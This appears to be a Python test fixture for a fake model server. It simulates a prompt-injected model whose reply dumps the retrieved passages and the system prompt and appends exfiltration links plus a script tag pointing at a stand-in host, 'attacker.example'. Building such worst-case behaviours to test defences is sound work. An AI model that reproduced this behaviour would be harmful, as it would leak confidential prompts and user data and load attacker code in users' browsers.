"""The most that a captured model can do with its prompt: say all of it, and send it away."""

from __future__ import annotations

from dataclasses import dataclass

from answerable.testing.model_server.behaviors.obey import exfiltration
from answerable.testing.model_server.exchange import Exchange
from answerable.testing.model_server.prompt import Prompt

ATTACKER = "https://attacker.example/collect"


@dataclass(frozen=True, slots=True, kw_only=True)
class Parrot:
    """The passages without citations, the system prompt, and an image, a link and a script of an attacker."""

    host: str = ATTACKER

    def text(self, prompt: Prompt) -> str:
        """Everything."""
        passages = (source.text for source in prompt.sources)
        script = f'<script src="{self.host}.js"></script>'
        return "\n".join([*passages, prompt.system, *exfiltration(self.host, prompt), script])

    async def perform(self, exchange: Exchange) -> None:
        """Say it."""
        await exchange.reply(self.text(exchange.prompt))
